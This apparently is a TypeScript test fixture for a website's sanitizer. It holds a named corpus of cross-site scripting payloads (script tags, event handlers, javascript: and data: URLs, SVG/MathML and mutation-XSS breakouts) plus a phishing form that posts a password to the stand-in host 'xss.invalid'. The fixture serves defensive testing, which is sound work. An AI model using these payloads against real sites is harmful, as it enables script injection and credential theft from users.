/**
 * Hostile server text (issue 15): what a compromised or careless backend could put
 * in any string the site shows. Every payload tries to run `window.__xss = 1` (or open a dialog),
 * or to make the browser reach the foreign host below; the gates assert that none of it happens.
 */
export const XSS_FOREIGN_HOST = 'xss.invalid';
const FOREIGN = `https://${XSS_FOREIGN_HOST}`;
const RUN = 'window.__xss=1';

export type XssPayload = { name: string; html: string };

export const xssCorpus: XssPayload[] = [
  // Script tags and event handlers.
  { name: 'script tag', html: `<script>${RUN}</script>` },
  { name: 'script src', html: `<script src="${FOREIGN}/x.js"></script>` },
  { name: 'img onerror', html: `<img src=x onerror="${RUN}">` },
  { name: 'body onload', html: `<body onload="${RUN}">` },
  { name: 'details ontoggle', html: `<details open ontoggle="${RUN}">` },
  { name: 'autofocus onfocus', html: `<input autofocus onfocus="${RUN}">` },
  { name: 'video source onerror', html: `<video><source onerror="${RUN}"></video>` },
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>` },
  { name: 'object data', html: `<object data="${FOREIGN}/x.swf"></object>` },
  { name: 'embed src', html: `<embed src="${FOREIGN}/x.swf">` },
  // javascript: and data: URLs.
  { name: 'javascript link', html: `<a href="javascript:${RUN}">enlace</a>` },
  { name: 'javascript link, encoded', html: `<a href="jav&#x09;ascript:alert(1)">enlace</a>` },
  { name: 'data link', html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">enlace</a>` },
  { name: 'iframe javascript', html: `<iframe src="javascript:parent.__xss=1"></iframe>` },
  { name: 'iframe data', html: `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>` },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">` },
  { name: 'base href', html: `<base href="${FOREIGN}/">` },
  // SVG and MathML.
  { name: 'svg onload', html: `<svg onload="${RUN}"></svg>` },
  { name: 'svg script', html: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg animate href', html: `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>` },
  { name: 'svg use', html: `<svg><use href="${FOREIGN}/x.svg#a"/></svg>` },
  { name: 'math href', html: `<math><mi xlink:href="javascript:alert(1)">x</mi></math>` },
  // Style and form injection.
  { name: 'style import', html: `<style>@import url(${FOREIGN}/s.css);</style>` },
  { name: 'style overlay', html: `<div style="position:fixed;inset:0;background:url(${FOREIGN}/bg.png)">Sitio falso</div>` },
  { name: 'link stylesheet', html: `<link rel="stylesheet" href="${FOREIGN}/s.css">` },
  { name: 'remote image', html: `<img src="${FOREIGN}/pixel.png">` },
  { name: 'form phishing', html: `<form action="${FOREIGN}/robo"><input name="password" type="password"><button>Entrar</button></form>` },
  { name: 'button formaction', html: `<button formaction="javascript:alert(1)">Continuar</button>` },
  { name: 'DOM clobbering', html: `<a id="__xss" name="__xss" href="#">x</a>` },
  // Mutation XSS classics.
  { name: 'noscript title', html: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: 'svg style', html: `<svg><style><img src=x onerror=${RUN}></style></svg>` },
  { name: 'math mglyph style', html: `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>` },
  { name: 'form math', html: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">` },
  { name: 'template', html: `<template><img src=x onerror="${RUN}"></template>` },
  { name: 'comment breakout', html: `<!--<img src="--><img src=x onerror=${RUN}//">` },
  { name: 'textarea breakout', html: `<textarea></textarea><img src=x onerror="${RUN}"></textarea>` },
  { name: 'unclosed attribute', html: `<a title="x><img src=x onerror=${RUN}>">y</a>` },
];

/** The visible word beside each payload: the text around the payloads must still show. */
export const XSS_MARKER = 'Textohostil';

/** Every payload after its marker (`Textohostil3 <payload>`), as one string. */
export function hostileText(maxLength = Number.POSITIVE_INFINITY): string {
  let text = '';
  for (const [index, payload] of xssCorpus.entries()) {
    const next = `${text ? ' ' : ''}${XSS_MARKER}${index} ${payload.html}`;
    if (text.length + next.length > maxLength) break;
    text += next;
  }
  return text || `${XSS_MARKER}`.slice(0, maxLength);
}
